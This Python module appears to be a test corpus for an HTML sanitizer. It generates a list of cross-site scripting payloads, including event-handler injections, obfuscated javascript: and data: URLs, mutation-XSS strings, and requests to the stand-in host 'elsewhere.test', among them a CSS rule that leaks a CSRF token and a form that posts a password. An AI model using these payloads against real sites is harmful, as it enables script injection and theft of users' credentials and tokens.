"""Over a hundred pieces of HTML that try to run a script or to call another host; `pwn()` is what each would call."""

ELSEWHERE = "https://elsewhere.test"
PWN = "window.pwned=1"

# Elements that run a script on their own, with the handler that does it.
HANDLERS = [
    ("<img src=x {}>", "onerror"),
    ("<img src=x: {}>", "onload"),
    ("<svg {}></svg>", "onload"),
    ("<body {}>", "onload"),
    ("<body {}>", "onpageshow"),
    ("<body {}>", "onhashchange"),
    ("<video src=x {}></video>", "onerror"),
    ("<video><source {}></video>", "onerror"),
    ("<audio src=x {}></audio>", "onerror"),
    ("<iframe {}></iframe>", "onload"),
    ("<object data=x {}></object>", "onerror"),
    ("<embed src=x {}>", "onload"),
    ("<input autofocus {}>", "onfocus"),
    ("<select autofocus {}></select>", "onfocus"),
    ("<textarea autofocus {}></textarea>", "onfocus"),
    ("<button autofocus {}>b</button>", "onfocus"),
    ("<details open {}>d</details>", "ontoggle"),
    ("<marquee {}>m</marquee>", "onstart"),
    ("<link rel=stylesheet href=x {}>", "onerror"),
    ("<style {}></style>", "onload"),
    ("<script src=x {}></script>", "onerror"),
    ("<p style='animation:a' {}>p</p>", "onanimationstart"),
    ("<div tabindex=0 autofocus {}>d</div>", "onfocus"),
    ("<a href=# autofocus {}>a</a>", "onfocus"),
    ("<svg><animate {} attributeName=x dur=1s></svg>", "onbegin"),
    ("<svg><image href=x {}></svg>", "onerror"),
    ("<math><mi {}>m</mi></math>", "onclick"),
    ("<p {}>p</p>", "onmouseover"),
    ("<keygen autofocus {}>", "onfocus"),
    ("<frameset {}></frameset>", "onload"),
    ("<dialog open {}></dialog>", "onclose"),
    ("<p {}>p</p>", "onpointerrawupdate"),
    ("<xss contenteditable autofocus {}>x</xss>", "onfocus"),
]

# Ways to write one handler so that a simple cleaner looks past it.
DISGUISES = [
    '{}="{}"',
    "{}='{}'",
    "{}={}",
    "/{}={}",
    "x=y {}={}",
    '"{}={}',
    "x=`>` {}={}",
]

# Addresses that would run when followed or loaded.
ADDRESSES = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "&#106;avascript:{}",
    "&#x6A;avascript&colon;{}",
    "\x01javascript:{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==",
    "javascript://%0a{}",
    "data:image/svg+xml,<svg onload={}>",
    "view-source:javascript:{}",
    "feed:javascript:{}",
]
HOLDERS = [
    "<a href='{}'>follow</a>",
    "<iframe src='{}'></iframe>",
    "<form action='{}'><button>go</button></form>",
]

OTHERS = [
    f"<script>{PWN}</script>",
    f"<SCRIPT>{PWN}</SCRIPT>",
    f"<script/x>{PWN}</script>",
    f"<scr<script>ipt>{PWN}</script>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<script type=module>{PWN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={PWN}>'>",
    f"<style><style/><img src=x onerror={PWN}></style>",
    f"<title><img src=x onerror={PWN}></title>",
    f"<textarea><img title='</textarea><img src=x onerror={PWN}>'></textarea>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={PWN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={PWN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f"<svg><foreignObject><script>{PWN}</script></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={PWN}/>#x'></svg>",
    f"<svg><a xlink:href='javascript:{PWN}'><text y=20>t</text></a></svg>",
    f"<svg><set attributeName=onload to='{PWN}'></svg>",
    f"<!--><img src=x onerror={PWN}>-->",
    f"<![CDATA[><img src=x onerror={PWN}>]]>",
    f"<?xml-stylesheet href='javascript:{PWN}'?>",
    f"<template><img src=x onerror={PWN}></template>",
    f"<template shadowrootmode=open><img src=x onerror={PWN}></template>",
    f"<iframe srcdoc='<script>parent.{PWN}</script>'></iframe>",
    f"<meta http-equiv=refresh content='0;url=javascript:{PWN}'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href='{ELSEWHERE}/'>",
    f"<base target=_top><link rel=prefetch href={ELSEWHERE}/a>",
    f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<style>@import '{ELSEWHERE}/b.css';</style>",
    f"<style>body{{background:url({ELSEWHERE}/c)}}</style>",
    f"<style>@font-face{{font-family:f;src:url({ELSEWHERE}/f)}} *{{font-family:f}}</style>",
    f"<style>input[name=csrfmiddlewaretoken][value^=a]{{background:url({ELSEWHERE}/d)}}</style>",
    f"<p style='background:url({ELSEWHERE}/e)'>p</p>",
    f"<table background={ELSEWHERE}/g><tr><td>t</table>",
    f"<img src={ELSEWHERE}/pixel.gif width=1 height=1>",
    f"<img srcset='{ELSEWHERE}/h 2x'>",
    f"<picture><source srcset={ELSEWHERE}/i><img></picture>",
    f"<video poster={ELSEWHERE}/j></video>",
    f"<audio src={ELSEWHERE}/k autoplay></audio>",
    f"<input type=image src={ELSEWHERE}/l>",
    f"<object data={ELSEWHERE}/m></object>",
    f"<embed src={ELSEWHERE}/n>",
    f"<form action={ELSEWHERE}><input name=password></form>",
    f"<button formaction='javascript:{PWN}'>b</button>",
    f"<isindex action='javascript:{PWN}' type=submit>",
    "<p id=content-start name=submit>clobbered</p>",
]


def payloads() -> list[str]:
    """Each once, in a stable order."""
    handled = [element.format(f"{handler}={PWN}") for element, handler in HANDLERS]
    disguised = [f"<img src=x {way.format('onerror', PWN)}>" for way in DISGUISES]
    addressed = [holder.format(address.format(PWN)) for address in ADDRESSES for holder in HOLDERS]
    return [*handled, *disguised, *addressed, *OTHERS]
